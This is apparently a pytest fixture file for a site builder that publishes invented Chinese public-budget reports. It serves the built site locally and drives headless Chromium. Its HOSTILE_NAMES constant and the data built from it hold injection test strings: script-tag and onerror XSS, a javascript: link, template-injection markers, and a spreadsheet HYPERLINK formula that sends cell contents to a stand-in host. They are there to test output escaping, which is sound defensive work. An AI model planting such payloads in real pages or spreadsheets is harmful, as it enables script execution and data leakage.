"""A small invented data folder and the site built from it, once for all tests of the room."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from decimal import Decimal
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright._impl._driver import compute_driver_executable
from playwright.sync_api import Browser, sync_playwright
from tests.sharing import make_once

from disclosure import __version__
from disclosure.description import dump_report, write_marks
from disclosure.model import (
    Acknowledgement,
    CheckResult,
    Correction,
    Fact,
    Figure,
    Finding,
    Indicator,
    Kind,
    Parsed,
    Project,
    Report,
    Source,
    Text,
)
from disclosure.package.editions.descriptor import write_descriptor
from disclosure.package.stored.collection import read_members
from disclosure.package.stored.integrity import digest_data
from disclosure.package.stored.records import write_report
from disclosure.provenance import Verification, Withheld
from disclosure.publish import SiteSummary, build_site
from disclosure.publish.facts.holdings import UnitHolding, find_region, hold_unit
from disclosure.publish.overviews.digest import UnitDigest
from disclosure.publish.units.part import Workshop, load_part, make_parts
from disclosure.store import Layout, hash_file

FLAGS = [
    "--no-sandbox", "--headless", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
ROOT = Path(__file__).parents[2]
LIBRARY = "riverside-library"
HOSTILE = "hostile"
HOSTILE_NAME = '<script>alert("1")</script>'
HOSTILE_NAMES = (
    "{{ config.site_url }}",
    "[a](javascript:alert(1))",
    "</title><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://h.example/?"&A1,"x")',
    "{% include 'mkdocs.yml' %}${7*7}{# x #}",
    "a&lt;b]]>--></script>*x*_y_`z`| - # \\",
)


def make_fact(statement: str, value: str, *, item: str = "", unit: str = "元", **more: Any) -> Fact:
    """A fact with the columns a test does not care about filled in."""
    filled = {"measure": "amount", "phase": "executed", "form": "narrative", "place": "l7"} | more
    filled.setdefault("quote", f"{item}{value}")
    return Fact(
        statement=statement, value=Decimal(value), unit=unit, item=item,
        reported=value, reported_unit=unit, **filled,
    )  # fmt: skip


def _make_final() -> Parsed:
    culture, service = "文化旅游体育与传媒支出", "文化旅游体育与传媒支出/文化和旅游/图书馆"
    line = {"functional_code": "2070104", "functional_name": service, "fund": "general_public_budget"}
    facts = (
        make_fact("overall", "8100000", item="total", direction="revenue"),
        make_fact("overall", "8000000", item="current_year", direction="revenue"),
        make_fact("overall", "8100000", item="total", direction="expenditure", quote="支出总计810.00万元"),
        make_fact("overall", "-400000", item="total", direction="expenditure", measure="change", basis="prior_year"),
        make_fact("overall", "-4.71", item="total", direction="expenditure", measure="change_rate", unit="%",
                  basis="prior_year"),
        make_fact("revenue", "7900000", item="fiscal_appropriation"),
        make_fact("revenue", "0", item="business_income"),
        make_fact("expenditure", "7950000", item="current_year", quote="本年支出795.00万元"),
        make_fact("expenditure", "5000000", item="basic", expenditure_type="basic"),
        make_fact("expenditure", "2950000", item="project", expenditure_type="project"),
        make_fact("general_public", "6000000", functional_code="207", functional_name=culture,
                  fund="general_public_budget"),
        make_fact("general_public", "6000000", **line),
        make_fact("general_public", "250000", measure="change", basis="prior_year", **line),
        make_fact("general_public", "1900000", functional_code="2080505", fund="general_public_budget",
                  functional_name="社会保障和就业支出/行政事业单位养老支出/机关事业单位基本养老保险缴费支出"),
        make_fact("three_public", "35200", item="total", fund="fiscal_appropriation"),
        make_fact("three_public", "35300", item="total", fund="fiscal_appropriation", form="table-8"),
        make_fact("three_public", "2", item="vehicles_owned", measure="count", unit="辆"),
        make_fact("staff", "31", item="active", measure="count", unit="人"),
        make_fact("performance", "200000", item="total", project=1, phase="adjusted"),
        make_fact("performance", "190000", item="total", project=1),
        make_fact("performance", "150000", item="total", project=2),
        make_fact("project", "120000", item="allocation", project=1, quote="车辆修理120000元"),
        make_fact("project", "70000", item="allocation", project=1, quote="图书添置70000元"),
    )  # fmt: skip
    return Parsed(
        facts=facts,
        texts=(
            Text("general_public", "change_reason", "新购少儿图书 <b>三千</b> 册", "l9", functional_code="2070104"),
            Text("overall", "change_reason", "屋顶维修已经完工", "l8", item="total"),
        ),
        projects=(
            Project(1, "流动书车", total_score=Decimal("96.5")),
            Project(2, "古籍修复", total_score=Decimal("88")),
        ),
        indicators=(
            Indicator(1, "产出指标", "数量指标", "书车出车次数", "l30", target=">=50次", actual="=40次",
                      completion="80%", weight=Decimal(10), score=Decimal(8), deviation="两个月在修车"),
        ),
        figures=(
            Figure(0, 1, "1", "l1", "overall", "fact"),
            Figure(1, 2, "1", "l1", "overall", "fact"),
            Figure(2, 3, "1", "l1", "overall", "ignored"),
            Figure(3, 4, "1", "l1", "overall", "unread"),
        ),
    )  # fmt: skip


def make_budget() -> Parsed:
    return Parsed(
        facts=(
            make_fact("overall", "9000000", item="total", phase="approved", direction="expenditure"),
            make_fact("overall", "9000000", item="total", phase="approved", direction="revenue"),
            make_fact("expenditure", "9000000", item="total", phase="approved"),
        ),
        texts=(), projects=(), indicators=(), figures=(),
    )  # fmt: skip


def _make_hostile() -> Parsed:
    return Parsed(
        facts=(
            make_fact("overall", "10000", item="current_year", direction="expenditure", quote=HOSTILE_NAME),
            *(
                make_fact("general_public", "5000", functional_code=f"20799{at:02}", functional_name=name, quote=name)
                for at, name in enumerate(HOSTILE_NAMES)
            ),
        ),
        texts=tuple(Text("overall", "change_reason", name, "l1", item="current_year") for name in HOSTILE_NAMES),
        projects=tuple(Project(at, name, supervisor=name) for at, name in enumerate(HOSTILE_NAMES, 1)),
        indicators=tuple(
            Indicator(at, "", "", name, "l1", target=name, deviation=name) for at, name in enumerate(HOSTILE_NAMES, 1)
        ),
        figures=(),
    )


def write_holding(layout: Layout, unit_id: str, year: int, kind: Kind, parsed: Parsed, name: str = "某馆") -> Report:
    """One report folder, with one finding over its first two facts."""
    corrections = (
        Correction(4, "1,208.05", "1,200.05", "页面上印的是<b>1,200.05</b>", "2030-05-07"),
        Correction(4, "-5.68", "5.68", "=没有负号", "2030-05-08", 2, 3),
    )
    source = Source("ab" * 32, "text/plain", 1, name, name)
    if unit_id == LIBRARY and kind == "final":
        source = replace(source, recognized_pages=(4,), corrections=corrections)
    answers = (Acknowledgement("total-parts-1", "单位说明：<b>四舍五入</b>所致。", "2030-05-06", "answered"),)
    known = answers if unit_id == LIBRARY and kind == "final" else ()
    if unit_id == HOSTILE:
        source = replace(source, title=HOSTILE_NAMES[2], publisher=HOSTILE_NAMES[3])
        known = (Acknowledgement("total-parts-1", "".join(HOSTILE_NAMES), "2030-05-06", "answered"),)
    report = Report(unit_id, year, kind, f"{name}{year}年度报告", name, (source,), acknowledgements=known)
    if unit_id == LIBRARY and kind == "final":
        wrong = Withheld("p7", "藏书<b>12</b>册", "12", "原文为21册", "2030-05-09", "2030-06-01")
        report = replace(report, withheld=(wrong, replace(wrong, reported="13", corrected="")))
    folder = layout.reports / report.folder
    folder.mkdir(parents=True)
    (folder / "report.yml").write_bytes(dump_report(report))
    finding = Finding(
        "total-parts-1", "overall-parts", "mismatch", "warning", f"{name}：合计与分项（l7）不一致。", "They differ.",
        (1, 2), Decimal("8100000"), Decimal("8000000"), Decimal("-100000"), "元",
    )  # fmt: skip
    write_report(layout, report, parsed, [finding], [CheckResult("overall-parts", "fail", 1)])
    if kind == "budget":
        held = Verification("2030-05-10", __version__, "folder", digest_data(folder))
        write_marks(folder / "report.yml", __version__, held)
    return report


def make_checkout(root: Path) -> Layout:
    """A checkout with the site's own files and the data of two invented units."""
    layout = Layout(root)
    shutil.copytree(ROOT / "data" / "reference", layout.reference)
    shutil.copytree(ROOT / "data" / "schemas", layout.schemas)
    shutil.copytree(
        ROOT / "docs", layout.docs, ignore=shutil.ignore_patterns("units", "topics", "findings", "regions", "decisions")
    )
    shutil.copytree(ROOT / "scripts" / "disclosure" / "publish", root / "scripts" / "disclosure" / "publish")
    shutil.copy(ROOT / "mkdocs.yml", root)
    (layout.data / "release.yml").write_text("version: '1.0.0'\ndate: '2030-01-01'\nhomepage: ''\n", encoding="utf-8")
    with (layout.reference / "units.csv").open("a", encoding="utf-8") as units:
        units.write(f"{LIBRARY},临河县图书馆,Riverside Library,650000\n")
        units.write(f'{HOSTILE},"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",Hostile,650000\n')
    with (layout.reference / "unit_names.csv").open("a", encoding="utf-8") as names:
        csv.writer(names, lineterminator="\n").writerows([HOSTILE, name, *[""] * 5] for name in HOSTILE_NAMES)
        names.write(f"{LIBRARY},临河县少儿阅览中心,,,,,\n")
    with (layout.reference / "functional.csv").open("a", encoding="utf-8") as functional:
        functional.write("2070104,图书馆,,3,20701,,,,,,standard,\n")
    write_holding(layout, LIBRARY, 2030, "final", _make_final(), "临河县图书馆")
    write_holding(layout, LIBRARY, 2031, "budget", make_budget(), "临河县图书馆")
    write_holding(layout, HOSTILE, 2030, "final", _make_hostile(), "某单位")
    write_descriptor(layout)
    return layout


def list_digests(folder: Path) -> dict[str, str]:
    """The sha256 of every file below a folder, by path."""
    return {path.relative_to(folder).as_posix(): hash_file(path) for path in folder.rglob("*") if path.is_file()}


def load_unit(layout: Layout, unit_id: str) -> tuple[UnitHolding, Workshop]:
    """A unit as its pages are made of it, with what they are made with."""
    workshop = Workshop(layout, "")
    unit = workshop.bench.reference.units[unit_id]
    region = find_region(unit.region_code, workshop.bench.reference.regions)
    return hold_unit(unit, region, read_members(layout, unit_id))[0], workshop


def load_digests(layout: Layout) -> list[UnitDigest]:
    """What the pages over all units are made of."""
    parts = map(load_part, make_parts(Workshop(layout, ""), lambda _: None))
    return [digest for part in parts for digest in part.digests]


def copy_checkout(checkout: Layout, root: Path) -> Layout:
    """A copy to change, with what builds have left there: parts whose data a test leaves as they are need not be made
    again. Times of files are copied as well, which the seals of parts name."""
    shutil.copytree(checkout.root, root, symlinks=True, dirs_exist_ok=True)
    return Layout(root)


def _publish(folder: Path) -> None:
    """The invented checkout, its site, and the numbers of the site's summary."""
    summary = build_site(make_checkout(folder / "checkout"), folder / "site", lambda _: None)
    numbers = (summary.pages, summary.charts, summary.files, summary.seconds)
    (folder / "summary.json").write_text(json.dumps(numbers), encoding="ascii")


@pytest.fixture(scope="session")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of the invented checkout and its site, the same one in all processes."""
    return make_once(tmp_path_factory, "published", _publish)


@pytest.fixture(scope="session")
def checkout(published: Path, tmp_path_factory: pytest.TempPathFactory) -> Layout:
    """The invented checkout the site is built from; parts may be added to it, its data are not to be changed."""
    return copy_checkout(Layout(published / "checkout"), tmp_path_factory.mktemp("checkout"))


@pytest.fixture(scope="session")
def built(published: Path) -> tuple[Path, SiteSummary]:
    """The built site and its summary."""
    site = published / "site"
    return site, SiteSummary(site, *json.loads((published / "summary.json").read_text(encoding="ascii")))


@pytest.fixture(scope="session")
def site(built: tuple[Path, SiteSummary]) -> Path:
    """The folder of the built site."""
    return built[0]


class _Silent(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is the library's
        pass


@contextmanager
def serve(site: Path) -> Iterator[str]:
    """The address at which a folder is served."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Silent, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()


@pytest.fixture(scope="session")
def address(site: Path) -> Iterator[str]:
    """Where the built site is served."""
    with serve(site) as served:
        yield served


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """Chromium from the path; where there is none the tests say so, and fail in continuous integration."""
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if path is None:
        pytest.skip("needs Chromium to try the site in a browser; on Debian: apt-get install chromium")
    driver = compute_driver_executable()[0]
    started = subprocess.run([driver, "--version"], capture_output=True, text=True, check=False)
    if started.returncode:
        pytest.skip(f"needs what Playwright is linked with; on Debian: apt-get install libatomic1 ({started.stderr})")
    with sync_playwright() as play:
        chromium = play.chromium.launch(executable_path=path, args=FLAGS)
        yield chromium
        chromium.close()
